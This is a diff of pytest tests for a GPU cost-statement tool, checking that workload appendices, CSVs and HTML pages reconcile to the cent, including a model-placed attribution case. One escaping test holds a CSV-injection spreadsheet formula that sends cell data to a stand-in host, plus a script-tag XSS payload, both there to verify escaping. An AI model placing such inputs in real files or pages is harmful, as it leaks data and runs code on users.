@@ -20,6 +20,8 @@ from gpucost.commands.statements import (
     read_statements,
 )
 
+from .conftest import run_dbt
+
 MONTH = "2026-10"
 CENT = Decimal("0.01")
 
@@ -167,6 +169,8 @@ def test_one_team_with_mode_override(generated_warehouse, tmp_path):
     assert sorted(p.name for p in tmp_path.iterdir()) == [
         f"statement_{MONTH}_nlp_USD.csv",
         f"statement_{MONTH}_nlp_USD.html",
+        f"statement_{MONTH}_nlp_USD_gpu_hours.csv",
+        f"statement_{MONTH}_nlp_USD_workloads.csv",
     ]
     page = (tmp_path / f"statement_{MONTH}_nlp_USD.html").read_text()
     assert "For information - not charged" in page
@@ -364,9 +368,41 @@ def test_the_workload_mart_adds_up_to_the_allocation(generated_warehouse):
         assert signals.startswith(f"rule {rule_id}: ")
 
 
-def test_the_appendix_backs_each_method_to_the_cent(generated_warehouse, statements_dir):
-    statements = read_statements(generated_warehouse.path, MONTH)
-    methods_seen = set()
+@pytest.fixture(scope="module")
+def model_placed_warehouse(generated_warehouse) -> Path:
+    """The generated month with the model placing money: the 3-day month has too few labelled
+    workloads for the default target accuracy, so its attribution is rebuilt on a copy with a low
+    fixed threshold (as test_attribution_warehouse does), and everything downstream of it."""
+    copy = generated_warehouse.copy("statements_model_placed")
+    work = generated_warehouse.work / "statements_model_placed"
+    work.mkdir(exist_ok=True)
+    result = run_dbt(
+        generated_warehouse.landing,
+        copy,
+        work,
+        "run",
+        "--select",
+        "int_workload_attribution_scores+",
+        "--vars",
+        "{gpucost_attribution_auto_threshold: 0.3, gpucost_attribution_target_accuracy: null}",
+    )
+    assert result.returncode == 0, result.stdout[-4000:]
+    return copy
+
+
+def _check_appendix(warehouse: Path) -> list:
+    """Every statement's appendix nests in its attribution breakdown to the cent, is within a cent
+    per row of the exact workload amounts, carries the workloads' GPU-hours and explains every
+    inferred placement. Returns the statements."""
+    statements = read_statements(warehouse, MONTH)
+    with duckdb.connect(str(warehouse), read_only=True) as con:
+        exact_rows = con.execute(
+            "select team_id, attribution_method, sum(billed_cost) from marts.fct_cost_allocation "
+            "where workload_id is not null and strftime(billing_period_start, '%Y-%m') = ? "
+            "group by 1, 2",
+            [MONTH],
+        ).fetchall()
+    exact = {(team, method): amount for team, method, amount in exact_rows}
     for statement in statements:
         attribution = dict(statement.attribution)
         by_method: dict[str, Decimal] = {}
@@ -379,40 +415,56 @@ def test_the_appendix_backs_each_method_to_the_cent(generated_warehouse, stateme
                 method, Decimal(0)
             )
             assert backed == cents, (statement.team_id, method)
-            methods_seen.add(method)
         assert set(by_method) <= set(attribution)
-        # the exact amounts behind the appendix: the team's workload rows of each method
-        exact = dict(
-            generated_warehouse.sql(
-                "select attribution_method, sum(billed_cost) from marts.fct_cost_allocation "
-                f"where team_id = '{statement.team_id}' and workload_id is not null group by 1"
-            )
-        )
         for method, amount in by_method.items():
             count = sum(1 for line in statement.workloads if line.attribution_method == method)
-            assert abs(amount - exact[method]) <= CENT * (count + 1), (statement.team_id, method)
+            gap = abs(amount - exact[(statement.team_id, method)])
+            assert gap <= CENT * (count + 1), (statement.team_id, method)
         assert sum((line.gpu_hours for line in statement.workloads), Decimal(0)) == sum(
             (g.gpu_hours for g in statement.gpu_lines if g.usage_kind == "usage"), Decimal(0)
         )
         for line in statement.workloads:
             if line.attribution_method in ("model", "rule"):
                 assert line.attribution_signals, line.workload_id
-    assert "model" in methods_seen, "the generated month has model placements"
+    return statements
 
-    # the model-placed part of a team's charge is backed by the appendix, and the CSV says so
+
+def test_the_appendix_backs_each_method_to_the_cent(generated_warehouse, statements_dir):
+    statements = _check_appendix(generated_warehouse.path)
+    methods = {line.attribution_method for s in statements for line in s.workloads}
+    assert {"pod_label", "rule"} <= methods
+    # the CSV: every row of the appendix, and they add up to the statement
+    for statement in statements:
+        rows = _read_csv(statements_dir / f"{statement.file_stem}_workloads.csv")
+        assert len([r for r in rows if r["workload_id"]]) == len(statement.workloads)
+        total = sum((Decimal(r["billed_cost"]) for r in rows), Decimal(0))
+        assert total == statement.total_billed, statement.team_id
+
+
+def test_the_model_placed_part_is_backed_workload_by_workload(model_placed_warehouse, tmp_path):
+    statements = _check_appendix(model_placed_warehouse)
+    with duckdb.connect(str(model_placed_warehouse), read_only=True) as con:
+        (placed,) = con.execute(
+            "select count(*) from marts.fct_cost_allocation where attribution_method = 'model'"
+        ).fetchone()
+    assert placed > 0, "a threshold of 0.3 places some workloads by the model"
     team = max(
         (s for s in statements if dict(s.attribution).get("model")),
         key=lambda s: dict(s.attribution)["model"],
     )
-    rows = _read_csv(statements_dir / f"{team.file_stem}_workloads.csv")
-    model_rows = [r for r in rows if r["attribution_method"] == "model"]
+    argv = ["statements", "--month", MONTH, "--team", team.team_id]
     assert (
-        sum((Decimal(r["billed_cost"]) for r in model_rows), Decimal(0))
-        == dict(team.attribution)["model"]
+        cli.main([*argv, "--warehouse", str(model_placed_warehouse), "--out", str(tmp_path)]) == 0
     )
-    assert all(r["attribution_signals"] for r in model_rows if r["workload_id"])
-    assert sum((Decimal(r["billed_cost"]) for r in rows), Decimal(0)) == team.total_billed
-    page = (statements_dir / f"{team.file_stem}.html").read_text()
+    rows = _read_csv(tmp_path / f"{team.file_stem}_workloads.csv")
+    model_rows = [r for r in rows if r["attribution_method"] == "model"]
+    # the model-placed part of the charge, to the cent: its workloads and its idle share
+    model_cents = dict(team.attribution)["model"]
+    assert sum((Decimal(r["billed_cost"]) for r in model_rows), Decimal(0)) == model_cents
+    placed_rows = [r for r in model_rows if r["workload_id"]]
+    assert placed_rows and all(r["attribution_signals"] for r in placed_rows)
+    assert all(Decimal(r["attribution_confidence"]) >= Decimal("0.3") for r in placed_rows)
+    page = (tmp_path / f"{team.file_stem}.html").read_text()
     assert "Appendix: the workloads behind the charge" in page
     first = next(line for line in team.workloads if line.attribution_method == "model")
     assert html.escape(first.attribution_signals) in page
@@ -425,7 +477,7 @@ def test_appendix_text_is_escaped_in_csv_and_html(generated_warehouse, tmp_path)
     formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
     markup = "<script>alert(1)</script>"
     with duckdb.connect(str(copy)) as con:
-        (row_id,) = con.sql(
+        (row_id,) = con.execute(
             "select statement_workload_id from marts.rpt_statement_workloads "
             "where team_id = 'nlp' order by billed_cost desc limit 1"
         ).fetchone()
